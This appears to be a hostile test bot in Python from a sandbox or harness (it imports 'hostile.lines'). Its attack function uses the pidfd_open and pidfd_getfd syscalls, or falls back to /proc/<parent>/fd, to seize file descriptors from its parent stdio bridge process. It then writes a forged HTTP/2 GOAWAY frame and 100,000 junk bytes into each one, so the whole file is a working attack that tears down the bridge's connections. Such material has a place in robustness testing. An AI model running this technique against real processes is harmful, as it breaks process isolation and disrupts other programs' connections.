"""A bot that takes the connection of the stdio bridge out of its process, and speaks on it."""

import ctypes
import os

from hostile.lines import run_lines

PIDFD_OPEN, PIDFD_GETFD = 434, 438
# A frame of HTTP/2 that says that the client goes away.
GOAWAY = b"\0\0\x08\x07" + bytes(13)
libc = ctypes.CDLL(None)


def attack(turn):
    bridge = os.getppid()
    held = libc.syscall(PIDFD_OPEN, bridge, 0)
    for number in range(3, 64):
        taken = libc.syscall(PIDFD_GETFD, held, number, 0)
        if taken < 0:
            try:
                taken = os.open(f"/proc/{bridge}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
        try:
            os.write(taken, GOAWAY + b"\xff" * 100_000)
        except OSError:
            pass


run_lines(attack)
